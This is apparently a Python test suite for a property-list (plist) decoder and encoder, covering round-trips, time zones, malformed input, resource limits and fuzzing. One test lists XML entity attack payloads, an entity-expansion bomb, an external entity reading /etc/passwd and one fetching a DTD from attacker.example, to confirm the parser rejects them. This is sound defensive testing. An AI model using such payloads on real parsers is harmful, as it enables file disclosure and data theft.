"""Property lists, the honest and the others."""

import json
import math
import plistlib
from datetime import UTC, datetime, timedelta, timezone

import pytest
from hypothesis import given
from hypothesis import strategies as st

from domain import plist
from domain.errors import MalformedPayload

DOCTYPE = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" '
    b'"http://www.apple.com/DTDs/PropertyList-1.0.dtd">\n'
)

TOKEN_UPDATE = {
    "MessageType": "TokenUpdate",
    "Token": b"\x00\x01\x02",
    "AwaitingConfiguration": False,
    "Since": datetime(2031, 1, 15, 8, 30, tzinfo=UTC),
    "Nested": {"List": [1, 2.5, "Zoë", []]},
}


def xml(inner: bytes) -> bytes:
    return DOCTYPE + b'<plist version="1.0">' + inner + b"</plist>"


@pytest.mark.parametrize("binary", [False, True])
def test_what_is_encoded_decodes_to_the_same(binary):
    assert plist.decode(plist.encode(TOKEN_UPDATE, binary=binary)) == TOKEN_UPDATE


@pytest.mark.parametrize("form", [plistlib.FMT_XML, plistlib.FMT_BINARY])
def test_dates_without_a_zone_become_utc_wherever_they_are(form):
    data = plistlib.dumps({"at": datetime(2031, 1, 15, 8, 30), "all": [datetime(2031, 1, 16)]}, fmt=form)  # noqa: DTZ001

    decoded = plist.decode(data)

    assert decoded == {"at": datetime(2031, 1, 15, 8, 30, tzinfo=UTC), "all": [datetime(2031, 1, 16, tzinfo=UTC)]}


@pytest.mark.parametrize("binary", [False, True])
def test_dates_of_other_zones_are_written_in_utc(binary):
    berlin = datetime(2031, 1, 15, 9, 30, tzinfo=timezone(timedelta(hours=1)))

    assert plist.decode(plist.encode({"at": berlin}, binary=binary)) == {"at": datetime(2031, 1, 15, 8, 30, tzinfo=UTC)}


def test_apples_doctype_is_accepted():
    assert plist.decode(xml(b"<dict><key>Status</key><string>Idle</string></dict>")) == {"Status": "Idle"}


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b" ",
        b"Idle",
        b"{}",
        b"<html></html>",
        b"bplist00",
        b"bplist00" + b"\x00" * 32,
        b"bplist00" + b"\xff" * 64,
        xml(b"<array/>"),
        xml(b"<string>text</string>"),
        xml(b""),
        xml(b"<dict><key>a</key></dict>"),
        xml(b"<dict><string>no key</string></dict>"),
        xml(b"<key>a</key>"),
        xml(b"<dict><key>a</key><date>2031</date></dict>"),
        xml(b"<dict><key>a</key><date>2031Z</date></dict>"),
        xml(b"<dict><key>a</key><date>9999-99-99T00:00:00Z</date></dict>"),
        xml(b"<dict><key>a</key><integer>one</integer></dict>"),
        xml(b"<dict><key>a</key><data>A</data></dict>"),
        xml(b"<dict><key>a</key><integer>%s</integer></dict>" % (b"9" * 5000)),
        xml(b"<dict><key>a</key><integer>0x%s</integer></dict>" % (b"f" * 5000)),
        xml(b"<dict><key>a</key><string>&nosuch;</string></dict>").replace(DOCTYPE, b""),
        b'<?xml version="1.0" encoding="nosuch"?><plist><dict/></plist>',
        b'<?xml version="1.0" encoding="zlib"?><plist><dict/></plist>',
        b"<plist><dict></array></plist>",
        plist.encode(TOKEN_UPDATE)[:-20],
        plist.encode(TOKEN_UPDATE, binary=True)[:-1],
        plist.encode(TOKEN_UPDATE, binary=True)[:40],
    ],
)
def test_what_is_no_plist_dictionary_is_malformed(data):
    with pytest.raises(MalformedPayload):
        plist.decode(data)


@pytest.mark.parametrize(
    "declaration",
    [
        b'<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">',
        b'<!ENTITY a SYSTEM "file:///etc/passwd">',
        b'<!ENTITY % a SYSTEM "http://attacker.example/x.dtd"> %a;',
    ],
)
def test_entities_are_refused(declaration):
    data = b"<?xml version='1.0'?><!DOCTYPE plist [" + declaration + b"]><plist><dict/></plist>"

    with pytest.raises(MalformedPayload):
        plist.decode(data)


def test_a_plist_over_the_size_limit_is_refused_before_it_is_parsed():
    with pytest.raises(MalformedPayload, match=str(plist.MAX_BYTES)):
        plist.decode(b"<" * (plist.MAX_BYTES + 1))


def nested(levels: int) -> bytes:
    return xml(b"<dict><key>a</key>" + b"<array>" * (levels - 1) + b"</array>" * (levels - 1) + b"</dict>")


def test_depth_is_allowed_up_to_the_limit():
    assert plist.decode(nested(plist.MAX_DEPTH))

    for levels in (plist.MAX_DEPTH + 1, 40_000):
        with pytest.raises(MalformedPayload, match="deeper"):
            plist.decode(nested(levels))


def test_more_values_than_the_budget_are_refused():
    with pytest.raises(MalformedPayload, match="values"):
        plist.decode(xml(b"<dict><key>a</key><array>" + b"<true/>" * plist.MAX_NODES + b"</array></dict>"))


def test_integers_are_allowed_to_128_bits():
    data = xml(b"<dict><key>a</key><integer>%d</integer></dict>" % (2**128 - 1))

    assert plist.decode(data) == {"a": 2**128 - 1}

    with pytest.raises(MalformedPayload, match="bits"):
        plist.decode(data.replace(b"%d" % (2**128 - 1), b"%d" % 2**128))


def test_jsonable_has_a_form_for_every_kind_of_value():
    value = {
        "data": b"apple",
        "at": datetime(2031, 1, 15, 9, 30, tzinfo=timezone(timedelta(hours=1))),
        "uid": plistlib.UID(7),
        "yes": True,
        "none": None,
        "text\x00": "\ud800",
        "numbers": [2**63 - 1, 2**63, -(2**63) - 1, 0.5, math.nan, -math.inf],
    }

    assert plist.jsonable(value) == {
        "data": "YXBwbGU=",
        "at": "2031-01-15T08:30:00Z",
        "uid": 7,
        "yes": True,
        "none": None,
        "text\ufffd": "\ufffd",
        "numbers": [2**63 - 1, "9223372036854775808", "-9223372036854775809", 0.5, None, None],
    }


@pytest.mark.parametrize("value", [{"a": None}, {"a": plistlib.UID(1)}, {"a": "\x01"}])
def test_what_xml_cannot_hold_the_binary_form_can(value):
    with pytest.raises(MalformedPayload):
        plist.encode(value)

    assert plist.decode(plist.encode(value, binary=True)) == value


@pytest.mark.parametrize("value", [{"a": object()}, {1: "a"}, {"a": 2**200}, {"a": "\ud800"}])
def test_what_neither_form_can_hold_is_malformed(value):
    for binary in (False, True):
        with pytest.raises(MalformedPayload):
            plist.encode(value, binary=binary)


def must_decode_or_be_malformed(data: bytes) -> None:
    try:
        decoded = plist.decode(data)
    except MalformedPayload:
        return
    json.dumps(plist.jsonable(decoded), allow_nan=False).encode()


@given(st.binary(max_size=300), st.sampled_from([b"", b"bplist00", DOCTYPE, b"<plist><dict><key>a</key>"]))
def test_no_bytes_at_all_raise_anything_else(data, head):
    must_decode_or_be_malformed(head + data)


@given(st.data())
def test_no_damage_to_a_real_plist_raises_anything_else(data):
    whole = bytearray(plist.encode(TOKEN_UPDATE, binary=data.draw(st.booleans())))

    for _ in range(data.draw(st.integers(1, 4))):
        whole[data.draw(st.integers(0, len(whole) - 1))] = data.draw(st.integers(0, 255))

    must_decode_or_be_malformed(bytes(whole))


FRAGMENTS = [
    b"<dict>",
    b"</dict>",
    b"<dict/>",
    b"<array>",
    b"</array>",
    b"<key>a</key>",
    b"<key>",
    b"<key/>",
    b"<true/>",
]
FRAGMENTS += [
    b"<date/>",
    b"<date>2031Z</date>",
    b"<data>=</data>",
    b"<real>x</real>",
    b"<integer>-</integer>",
    b"</key>",
]


@given(st.lists(st.sampled_from(FRAGMENTS), max_size=12))
def test_no_arrangement_of_elements_raises_anything_else(parts):
    must_decode_or_be_malformed(xml(b"".join(parts)))
